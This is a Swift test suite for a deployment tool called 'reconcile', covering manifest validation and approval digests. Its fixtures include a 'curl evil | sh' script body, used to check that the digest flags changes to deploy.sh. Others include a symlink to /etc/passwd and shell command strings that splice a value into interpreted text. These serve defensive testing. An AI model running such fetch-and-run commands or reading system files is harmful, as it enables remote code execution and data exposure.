import TestSupport
import Testing

@testable import reconcile

/// A repository with the manifests of a small team.
private func team(_ test: String = #function, version: String = "2.4.0") throws -> GitSandbox {
    let sandbox = try GitSandbox(test)
    try sandbox.write("deploy.sh", "#!/bin/sh\necho \"$@\"\n")
    try sandbox.git(["update-index", "--add", "--chmod=+x", "deploy.sh"])
    _ = try run("chmod", ["+x", sandbox.path + "/deploy.sh"], environment: [:])
    try sandbox.write("desired-state/production.yaml", production)
    try sandbox.write("desired-state/app.yaml", app(version: version))
    return sandbox
}

private let production = """
    apiVersion: reconcile/v1
    kind: Environment
    metadata: {name: production}
    spec:
      initial: {version: 2.3.1}
      actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}

    """

private func app(version: String, soak: String = "soak: 1h") -> String {
    """
    apiVersion: reconcile/v1
    kind: Rollout
    metadata: {name: app}
    spec:
      version: \(version)
      stages:
        - name: production
          environments: [production]
          \(soak)

    """
}

@Suite("reconcile validate") struct ValidateTests {
    @Test func `good manifests are one line, and nothing at all when quiet`() throws {
        let sandbox = try team()
        #expect(Transcript("validate", in: sandbox.path).output == "No problems in 2 files.\n")
        #expect(Transcript("validate", "-q", in: sandbox.path) == Transcript.silence)
    }

    @Test func `it works from any folder of the repository, and tells paths from there`() throws {
        let sandbox = try team()
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "sook: 1h"))
        let told = Transcript("validate", in: sandbox.path + "/desired-state")
        #expect(told.status == .invalid)
        #expect(
            told.output == """
                ../desired-state/app.yaml:9:7: error: unknown field `sook` in a stage
                    9 |       sook: 1h
                      |       ^~~~
                      = did you mean `soak`?

                1 error in 1 file

                """)
    }

    @Test func `a revision is read as it was committed, whatever lies in the working folder`()
        throws
    {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "soak: soon"))
        #expect(Transcript("validate", in: sandbox.path).status == .invalid)
        #expect(Transcript("validate", "HEAD", in: sandbox.path).status == .success)
        _ = try sandbox.commit("bad")
        #expect(Transcript("validate", "main", in: sandbox.path).status == .invalid)
        #expect(Transcript("validate", "HEAD~1", in: sandbox.path).status == .success)
    }

    @Test func `a bare repository is read at its HEAD`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        let bare = sandbox.directory.path + "/bare.git"
        try sandbox.git(["clone", "--quiet", "--bare", sandbox.path, bare])
        #expect(Transcript("validate", in: bare).output == "No problems in 2 files.\n")
    }

    @Test func `a folder outside git, and one file of it, can be checked too`() throws {
        let folder = try TemporaryDirectory()
        let sandbox = try team()
        _ = try run(
            "cp",
            ["-r", sandbox.path + "/desired-state", sandbox.path + "/deploy.sh", folder.path],
            environment: [:])
        #expect(Transcript("validate", in: folder.path).output == "No problems in 2 files.\n")
        let file = Transcript("validate", "desired-state/production.yaml", in: sandbox.path)
        #expect(file.output == "No problems in 1 file.\n")
    }

    @Test func `what is neither on disk nor in git is said to be neither`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        let told = Transcript("validate", "mian", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(
            told.errors.hasPrefix(
                "reconcile: there is neither a file nor a revision called `mian`\n"))
        #expect(told.errors.contains("main"))
    }

    @Test func `a repository without desired state says which folder is missing`() throws {
        let sandbox = try GitSandbox()
        try sandbox.write("README", "nothing\n")
        let told = Transcript("validate", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.errors.contains("there is no folder `desired-state`"))
    }

    @Test func `links, LFS pointers and look-alike paths are told of, and not followed`() throws {
        let sandbox = try team()
        try sandbox.write(
            "desired-state/lfs.yaml",
            "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
        try sandbox.write("desired-state/App.yaml", "# nothing\n")
        _ = try run(
            "ln", ["-s", "/etc/passwd", sandbox.path + "/desired-state/link.yaml"], environment: [:]
        )
        for place in [nil, "HEAD"] {
            if place != nil { _ = try sandbox.commit("odd") }
            let told = Transcript(words: ["validate"] + [place].compactMap { $0 }, in: sandbox.path)
            #expect(told.status == .invalid)
            #expect(
                told.output.contains(
                    "desired-state/lfs.yaml:1:1: error: this is a pointer of Git LFS"))
            #expect(
                told.output.contains("desired-state/link.yaml:1:1: error: this is a symbolic link"))
            #expect(
                told.output.contains("this path differs from `desired-state/App.yaml` in case only")
            )
            #expect(!told.output.contains("root:"))
        }
    }

    @Test func `a file that nobody can read holds what may have needed it`() throws {
        let sandbox = try team()
        try sandbox.write(
            "desired-state/policy.yaml", "apiVersion: reconcile/v1\nkind: Polcy\nspec: [\n")
        let told = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.errors.contains("the rollout `app` has errors"))
    }

    @Test func `a shell's text takes no value, however the shell is started`() throws {
        for command in [
            "sh, -ce, \"echo $(version)\"", "bash, -c, --, \"echo $(version)\"",
            "timeout, 5, sh, -c, \"echo $(version)\"", "python3, -c, \"print($(version))\"",
        ] {
            let sandbox = try team()
            try sandbox.write(
                "desired-state/production.yaml",
                production.replacing("./deploy.sh, --version=$(version)", with: command))
            let told = Transcript("validate", in: sandbox.path).output
            #expect(told.contains("cannot stand in the text that a shell runs"), "\(command)")
        }
        let sandbox = try team()
        try sandbox.write(
            "desired-state/production.yaml",
            production.replacing("[./deploy.sh, ", with: "[bash, ./deploy.sh, -c, "))
        #expect(Transcript("validate", in: sandbox.path).status == .success)
    }

    @Test func `warnings end well, unless they are to count`() throws {
        let sandbox = try team()
        try sandbox.write(
            "desired-state/check.yaml",
            """
            apiVersion: reconcile/v1
            kind: Check
            metadata: {name: latency}
            spec: {prometheus: {url: https://p.example.com, query: up}}

            """)
        #expect(Transcript("validate", in: sandbox.path).status == .success)
        #expect(Transcript("validate", "--strict", in: sandbox.path).status == .invalid)
    }

    @Test func `it says on request how bounds were understood`() throws {
        let sandbox = try team()
        try sandbox.write(
            "desired-state/check.yaml",
            """
            apiVersion: reconcile/v1
            kind: Check
            metadata: {name: latency}
            spec:
              prometheus: {url: https://p.example.com, query: up}
              baseline: {over: 24h}
              target: within 10% of baseline
              critical: "> 500 ms"

            """)
        #expect(
            Transcript("validate", "-v", in: sandbox.path).output == """
                No problems in 3 files.
                desired-state/check.yaml:7:11: `target` of `latency` is within 10% of baseline; lower is better, so only higher counts
                desired-state/check.yaml:8:13: `critical` of `latency` is above 500ms

                """)
    }

    @Test func `an invalid rollout does not hide the problems of another`() throws {
        let sandbox = try team()
        let second = app(version: "1", soak: "soak: 3 days")
            .replacing("name: app", with: "name: other").replacing(
                "spec:", with: "spec:\n  component: other")
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "soak: 1"))
        try sandbox.write("desired-state/other.yaml", second)
        let told = Transcript("validate", in: sandbox.path).output
        #expect(told.contains("desired-state/app.yaml:9:13: error"))
        #expect(told.contains("desired-state/other.yaml:10:13: error"))
    }

    @Test func `a controller file is checked with the manifests, and secrets against it`() throws {
        let sandbox = try team()
        try sandbox.write(
            "desired-state/production.yaml",
            production + "  variables: {PASSWORD: {secret: databse}}\n")
        try sandbox.write(
            "controller.yaml",
            "secrets:\n  database: {file: /etc/database, environments: [production]}\n")
        let told = Transcript("validate", "--controller", "controller.yaml", in: sandbox.path)
        #expect(told.output.contains("there is no secret called `databse`"))
        #expect(told.output.contains("did you mean `database`?"))
    }
}

@Suite("reconcile digest") struct DigestCommandTests {
    @Test func `the digest of a revision and of the same working folder are one`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        let here = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(here.status == .success)
        #expect(here.output.hasPrefix("sha256:"))
        #expect(Transcript("digest", "app", "production", "--at", "HEAD", in: sandbox.path) == here)
    }

    @Test func `what changed since a revision is said by its part`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.1", soak: "soak: 72h"))
        try sandbox.write("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
            .output
        let lines = told.split(separator: "\n").dropFirst(2).joined(separator: "\n")
        #expect(
            lines == """
                  what
                    version was 2.4.0, is 2.4.1
                  under what
                    soak was 1h, is 72h
                  by what
                    deploy.sh changed
                """)
    }

    @Test func `a program that is too large to be approved holds, and has no digest`() throws {
        let sandbox = try team()
        _ = try run("truncate", ["-s", "257M", sandbox.path + "/deploy.sh"], environment: [:])
        #expect(
            Transcript("validate", in: sandbox.path).output == """
                desired-state/production.yaml:6:28: error: `deploy.sh` is larger than 256 MiB, so nobody can approve it by content
                    6 |   actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}
                      |                            ^~~~~~~~~~~
                      = keep it elsewhere, and its checksum in the program that fetches it

                1 error in 1 file

                """)
        let told = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.output == "")
        #expect(told.errors.contains("`deploy.sh` is larger than 256 MiB"))
    }

    @Test func `what only one clone knows is nothing to compare with`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        _ = try sandbox.commit("better")
        for words in [
            ["digest", "app", "production", "--against", "HEAD@{1}"], ["validate", "HEAD@{1}"],
        ] {
            let told = Transcript(words: words, in: sandbox.path)
            #expect(told.status == .invalid)
            #expect(
                told.errors == """
                    reconcile: could not resolve the revision `HEAD@{1}`: what `@{…}` means is known to this clone alone
                    name a branch, a tag or a commit

                    """)
        }
    }

    @Test func `an unknown stage is answered with the nearest one`() throws {
        let sandbox = try team()
        let told = Transcript("digest", "app", "prodution", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(
            told.errors == """
                reconcile: the rollout `app` has no stage called `prodution`
                did you mean `production`?

                """)
    }

    @Test func `a stage that is held has no digest to approve`() throws {
        let sandbox = try team()
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "sook: 1h"))
        let told = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.errors.contains("unknown field `sook`"))
    }
}
